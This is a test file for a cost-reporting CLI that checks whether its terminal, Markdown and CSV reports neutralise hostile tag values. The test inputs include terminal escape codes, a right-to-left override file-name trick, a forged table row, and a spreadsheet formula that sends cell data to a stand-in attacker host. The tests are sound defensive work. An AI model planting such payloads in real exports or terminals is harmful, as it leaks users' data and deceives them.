import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { withTags } from 'costkit';
import { beforeAll, describe, expect, it } from 'vitest';
import { costkit, costkitJson } from './helpers/cli.js';
import { recordLedger, tempDir } from './helpers/record.js';

// Tag values an app can record (withTags keeps them as given, within its length
// limit): terminal escapes, a forged row, Markdown pipes and spreadsheet formulas.
const ESCAPES = 'ops\u001b[2J\u001b[31mred\u0007\u202egnp.exe';
const FORGED = 'search\n| forged | row |';
const FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"click")';
const CSV_BREAKER = 'a,"b"\r\nc';

let ledger: string;

beforeAll(async () => {
  ledger = join(tempDir(), 'costkit-events.jsonl');
  await recordLedger(ledger, async ({ openai }) => {
    const call = () => openai.chat.completions.create({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: 'hi' }] });
    await withTags({ team: ESCAPES, feature: FORGED }, call);
    await withTags({ team: FORMULA, feature: CSV_BREAKER }, call);
    await withTags({ team: 'plain', feature: 'plain' }, call);
  });
});

describe('hostile tag values in the report', () => {
  it('keeps them exact in the JSON', async () => {
    const json = await costkitJson(['report', ledger, '--by', 'team,feature']);
    const keys = json.groups.map((g: { key: Record<string, string> }) => g.key);
    expect(keys).toContainEqual({ team: ESCAPES, feature: FORGED });
    expect(keys).toContainEqual({ team: FORMULA, feature: CSV_BREAKER });
  });

  it('never sends a control character to the terminal: each shows as an escape', async () => {
    const { stdout } = await costkit(['report', ledger, '--by', 'team,feature']);
    expect(stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
    expect(stdout).toContain('ops\\x1b[2J\\x1b[31mred\\x07\\u202egnp.exe');
    expect(stdout).toContain('search\\n| forged | row |');
  });

  it('keeps one Markdown row per group: no forged row, no extra cell', async () => {
    const { stdout } = await costkit(['report', ledger, '--by', 'team,feature', '--format', 'markdown']);
    const rows = stdout.split('\n').filter((line) => line.startsWith('|'));
    expect(rows).toHaveLength(2 + 3); // header, rule, three groups
    const cellCounts = rows.map((row) => row.split(/(?<!\\)\|/).length);
    expect(new Set(cellCounts).size).toBe(1);
    expect(stdout).not.toMatch(/^\| forged/m);
  });

  it('parses back to the same values in csv, with formulas kept as text', async () => {
    const { stdout } = await costkit(['report', ledger, '--by', 'team,feature', '--format', 'csv']);
    const [header, ...records] = parse(stdout, { relax_column_count: false }) as string[][];
    const team = header!.indexOf('team');
    const feature = header!.indexOf('feature');
    expect(records).toHaveLength(3);
    const byTeam = new Map(records.map((r) => [r[team], r]));
    // The spreadsheet guard: a leading quote makes the formula a string.
    expect(byTeam.get(`'${FORMULA}`)?.[feature]).toBe(CSV_BREAKER);
    expect(byTeam.get(ESCAPES)?.[feature]).toBe(FORGED);
    for (const record of records) expect(record).toHaveLength(header!.length);
    // Negative or not, numbers are left as numbers.
    const cost = header!.indexOf('costUsd');
    if (cost >= 0) for (const record of records) expect(record[cost]).toMatch(/^[0-9.e-]+$/);
  });
});
